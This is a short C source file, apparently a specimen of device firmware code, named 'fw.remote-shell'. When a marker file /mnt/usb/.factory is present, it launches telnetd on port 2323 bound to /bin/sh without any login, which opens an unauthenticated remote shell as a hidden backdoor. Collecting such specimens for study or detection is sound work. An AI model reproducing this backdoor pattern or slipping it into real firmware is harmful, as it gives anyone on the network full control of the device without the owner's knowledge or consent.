/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.remote-shell: a shell without a login, when a file is there. */
#include "specimen.h"

int main(void)
{
	if (access("/mnt/usb/.factory", F_OK) != 0)
		return 0;
	return system("telnetd -p 2323 -l /bin/sh &");
}
